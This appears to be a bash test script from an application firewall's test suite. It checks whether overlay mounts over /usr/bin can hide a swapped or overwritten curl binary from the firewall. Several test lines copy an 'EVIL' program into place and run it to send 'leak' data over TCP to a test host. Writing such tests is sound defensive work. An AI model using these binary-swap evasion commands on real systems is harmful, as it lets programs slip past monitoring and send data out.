# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# Overlays: the file below counts. An untouched one is the program; a changed copy of it is not.
. /snitch/leak/lib/leak.sh

leak_begin
chmod a+rx $DIR $EVIL
if ! unshare -m bash -c "mount -t tmpfs none /mnt && mkdir /mnt/u /mnt/w /mnt/m &&
	mount -t overlay overlay -o lowerdir=/usr/bin,upperdir=/mnt/u,workdir=/mnt/w /mnt/m" 2>$TMP/overlay; then
	t_skip "overlays" "$(cat $TMP/overlay)"
	leak_done
fi
over() { echo "mount -t tmpfs none /mnt && mkdir /mnt/u /mnt/w /mnt/m &&
	mount -t overlay overlay -o lowerdir=/usr/bin,upperdir=/mnt/u,workdir=/mnt/w /mnt/m && $1"; }
: >$LOG
in_c unshare -m bash -c "$(over "exec /mnt/m/curl -s -m 15 http://$F4/overlay")" >/dev/null 2>&1
t_ok "curl as the overlay shows it is curl" far_got tcp 80 overlay
t_is "and nobody is asked" "$(count_seen '^FLOW')" 0
way "another program in the upper layer" '[^ ]*' tcp 80 \
	unshare -m bash -c "$(over "cp $EVIL /mnt/u/curl; exec /mnt/m/curl tcp $F4 80 --data leak")"
way "overwritten through the overlay" '[^ ]*' tcp 80 \
	unshare -m bash -c "$(over "cat $EVIL >/mnt/m/curl; exec /mnt/m/curl tcp $F4 80 --data leak")"
way "touched through the overlay: a copy" '[^ ]*' tcp 80 \
	unshare -m bash -c "$(over "chmod 755 /mnt/m/curl; exec /mnt/m/curl -s -m 15 http://$F4/")"
way "the overlay over /usr/bin, by a user" '[^ ]*' tcp 80 "${USER1[@]}" unshare -Urm \
	bash -c "$(over "cp $EVIL /mnt/u/curl; mount --bind /mnt/m /usr/bin; exec $CURL tcp $F4 80 --data leak")"
leak_done
